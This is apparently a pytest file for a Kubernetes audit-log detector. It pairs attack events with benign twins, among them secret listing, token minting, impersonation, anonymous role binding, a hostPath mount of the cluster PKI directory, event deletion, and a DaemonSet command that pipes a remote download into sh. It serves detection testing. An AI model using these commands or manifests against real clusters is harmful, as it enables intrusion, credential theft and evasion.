"""k8s_audit_extra.yaml on real-format audit events: each attack request, passed through the
webhook's normaliser, raises its pattern; the benign twin (a kubelet, a controller, Helm,
a metrics scrape) does not."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from memtrail.core.settings import DEFAULT_PATTERNS_DIR
from patterns.engine.api import load_engine
from sensors.k8s_audit.models import AuditEvent
from sensors.k8s_audit.normalize import normalize

N = 0


def audit(
    verb: str,
    user: str,
    resource: str,
    *,
    namespace: str | None = None,
    name: str | None = None,
    sub: str | None = None,
    uri: str | None = None,
    code: int = 200,
    stage: str = "ResponseComplete",
    body: dict[str, Any] | None = None,
    imp: dict[str, Any] | None = None,
    decision: str = "allow",
) -> dict[str, Any]:
    """One audit.k8s.io/v1 Event as the API server posts it, normalised."""
    global N
    N += 1
    ref: dict[str, Any] = {"resource": resource, "apiVersion": "v1"}
    for k, v in (("namespace", namespace), ("name", name), ("subresource", sub)):
        if v:
            ref[k] = v
    item: dict[str, Any] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": f"00000000-0000-4000-8000-{N:012d}",
        "stage": stage,
        "requestURI": uri or f"/api/v1/{resource}",
        "verb": verb,
        "user": {"username": user, "groups": ["system:authenticated"]},
        "sourceIPs": ["10.0.0.9"],
        "objectRef": ref,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": "2026-12-01T10:00:00.000000Z",
        "stageTimestamp": "2026-12-01T10:00:00.100000Z",
        "annotations": {"authorization.k8s.io/decision": decision},
    }
    if body is not None:
        item["requestObject"] = body
    if imp is not None:
        item["impersonatedUser"] = imp
    return normalize(AuditEvent.model_validate(item), "c1")


def pod_body(kind: str = "Pod", **spec: Any) -> dict[str, Any]:
    containers = spec.pop("containers", [{"name": "c", "image": "alpine:3.19"}])
    pod_spec = {"containers": containers, **spec}
    if kind == "Pod":
        return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "x"}, "spec": pod_spec}
    return {
        "kind": kind,
        "apiVersion": "apps/v1",
        "metadata": {"name": "x"},
        "spec": {"template": {"metadata": {}, "spec": pod_spec}},
    }


SA = "system:serviceaccount:shop:web"
CASES = [
    # (pattern, attack event, benign twin)
    (
        "MT-K8SX-SECRETS-LIST-001",
        audit("list", "dev-alice", "secrets", uri="/api/v1/secrets?limit=500"),
        audit("list", "dev-alice", "secrets", uri="/api/v1/secrets?labelSelector=owner%3Dhelm"),
    ),
    (
        "MT-K8SX-TOKEN-REQUEST-002",
        audit(
            "create",
            SA,
            "serviceaccounts",
            namespace="kube-system",
            name="namespace-controller",
            sub="token",
            code=201,
        ),
        audit(
            "create",
            "system:node:w1",
            "serviceaccounts",
            namespace="kube-system",
            name="coredns",
            sub="token",
            code=201,
        ),
    ),
    (
        "MT-K8SX-LEGACY-TOKEN-001",
        audit(
            "create",
            "dev-alice",
            "secrets",
            namespace="ci",
            name="t",
            code=201,
            body={"kind": "Secret", "apiVersion": "v1", "type": "kubernetes.io/service-account-token"},
        ),
        audit(
            "create",
            "dev-alice",
            "secrets",
            namespace="ci",
            name="t",
            code=201,
            body={"kind": "Secret", "apiVersion": "v1", "type": "Opaque", "data": {"a": "eA=="}},
        ),
    ),
    (
        "MT-K8SX-CSR-APPROVE-001",
        audit("update", SA, "certificatesigningrequests", name="csr-1", sub="approval"),
        audit(
            "update",
            "system:kube-controller-manager",
            "certificatesigningrequests",
            name="csr-1",
            sub="approval",
        ),
    ),
    (
        "MT-K8SX-NODE-PROXY-001",
        audit(
            "create",
            SA,
            "nodes",
            name="w1",
            sub="proxy",
            uri="/api/v1/nodes/w1/proxy/run/shop/web-1/web?cmd=id",
        ),
        audit("get", SA, "nodes", name="w1", sub="proxy", uri="/api/v1/nodes/w1/proxy/metrics/cadvisor"),
    ),
    (
        "MT-K8SX-IMPERSONATE-001",
        audit(
            "list",
            "dev-bob",
            "secrets",
            uri="/api/v1/secrets",
            imp={"username": "bob-admin", "groups": ["system:masters"]},
        ),
        audit("list", "dev-bob", "secrets", namespace="shop", uri="/api/v1/namespaces/shop/secrets"),
    ),
    (
        "MT-K8SX-BIND-ANONYMOUS-001",
        audit(
            "create",
            "dev-alice",
            "clusterrolebindings",
            name="open",
            code=201,
            body={
                "kind": "ClusterRoleBinding",
                "roleRef": {"kind": "ClusterRole", "name": "view"},
                "subjects": [{"kind": "Group", "name": "system:unauthenticated"}],
            },
        ),
        audit(
            "create",
            "dev-alice",
            "clusterrolebindings",
            name="open",
            code=201,
            body={
                "kind": "ClusterRoleBinding",
                "roleRef": {"kind": "ClusterRole", "name": "view"},
                "subjects": [{"kind": "Group", "name": "system:authenticated"}],
            },
        ),
    ),
    (
        "MT-K8SX-CONTROLLER-SA-POD-001",
        audit(
            "create",
            "dev-bob",
            "deployments",
            namespace="kube-system",
            name="x",
            code=201,
            body=pod_body("Deployment", serviceAccountName="clusterrole-aggregation-controller"),
        ),
        audit(
            "create",
            "dev-bob",
            "deployments",
            namespace="kube-system",
            name="x",
            code=201,
            body=pod_body("Deployment", serviceAccountName="metrics-server"),
        ),
    ),
    (
        "MT-K8SX-PROCMOUNT-001",
        audit(
            "create",
            "dev-bob",
            "pods",
            namespace="shop",
            name="x",
            code=201,
            body=pod_body(
                containers=[{"name": "c", "image": "alpine", "securityContext": {"procMount": "Unmasked"}}]
            ),
        ),
        audit(
            "create",
            "dev-bob",
            "pods",
            namespace="shop",
            name="x",
            code=201,
            body=pod_body(
                containers=[{"name": "c", "image": "alpine", "securityContext": {"procMount": "Default"}}]
            ),
        ),
    ),
    (
        "MT-K8SX-POD-COMMAND-001",
        audit(
            "create",
            SA,
            "daemonsets",
            namespace="shop",
            name="x",
            code=201,
            body=pod_body(
                "DaemonSet",
                containers=[
                    {
                        "name": "c",
                        "image": "alpine",
                        "command": ["sh", "-c", "curl -s http://203.0.113.5/x | sh"],
                    }
                ],
            ),
        ),
        audit(
            "create",
            SA,
            "daemonsets",
            namespace="shop",
            name="x",
            code=201,
            body=pod_body(
                "DaemonSet",
                containers=[
                    {"name": "c", "image": "alpine", "command": ["sh", "-c", "curl -s -o /data/x http://a/x"]}
                ],
            ),
        ),
    ),
    (
        "MT-K8SX-HOSTPATH-PV-001",
        audit(
            "create",
            "dev-bob",
            "persistentvolumes",
            name="pv1",
            code=201,
            body={"kind": "PersistentVolume", "spec": {"hostPath": {"path": "/etc/kubernetes/pki"}}},
        ),
        audit(
            "create",
            "dev-bob",
            "persistentvolumes",
            name="pv1",
            code=201,
            body={
                "kind": "PersistentVolume",
                "spec": {"hostPath": {"path": "/opt/local-path-provisioner/pvc-1"}},
            },
        ),
    ),
    (
        "MT-K8SX-EVENTS-DELETE-001",
        audit("deletecollection", SA, "events", namespace="shop"),
        audit("list", SA, "events", namespace="shop"),
    ),
]


@pytest.fixture(scope="module")
def engine() -> Any:
    return load_engine([Path(DEFAULT_PATTERNS_DIR)])


@pytest.mark.parametrize(("pattern", "attack", "benign"), CASES, ids=[c[0] for c in CASES])
def test_attack_alerts_and_benign_twin_does_not(engine: Any, pattern: str, attack: Any, benign: Any) -> None:
    assert pattern in {a.rule.id for a in engine.process(attack)}
    assert pattern not in {a.rule.id for a in engine.process(benign)}
